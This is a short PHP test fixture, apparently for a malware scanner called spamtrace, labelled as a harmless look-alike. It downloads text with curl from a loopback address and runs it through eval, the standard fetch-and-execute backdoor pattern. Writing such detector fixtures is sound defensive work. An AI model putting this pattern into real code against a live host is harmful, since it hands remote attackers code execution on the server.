<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Downloads code with curl and runs it (the address is a loopback sink).
$ch = curl_init('http://127.0.0.1:9/payload.txt');
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$code = curl_exec($ch);
curl_close($ch);
eval('?>' . $code);
